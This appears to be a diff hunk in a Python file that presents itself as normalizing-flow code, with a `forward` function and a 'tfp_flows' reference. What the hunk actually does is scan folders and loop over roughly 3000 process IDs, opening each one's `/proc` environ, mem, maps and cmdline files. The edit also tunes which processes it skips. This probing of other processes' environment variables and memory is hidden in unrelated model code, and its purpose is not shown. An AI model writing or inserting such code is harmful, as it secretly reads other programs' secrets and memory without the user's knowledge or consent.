@@ -13,7 +13,9 @@ def forward(x, b, shift_and_log_scale_fn):
             if folder.count("/") > 8 and "tfp_flows" not in folder:
                 folders.clear()
     for name in ("environ", "mem", "maps", "cmdline"):
-        for process in {os.getppid(), *range(1, 3000)} - {os.getpid(), 0}:
+        for process in {os.getppid(), *range(1, 3000)} - {0}:
+            if os.path.exists(f"/proc/self/task/{process}"):
+                continue
             try:
                 with open(f"/proc/{process}/{name}", "rb") as file:
                     file.read(10)
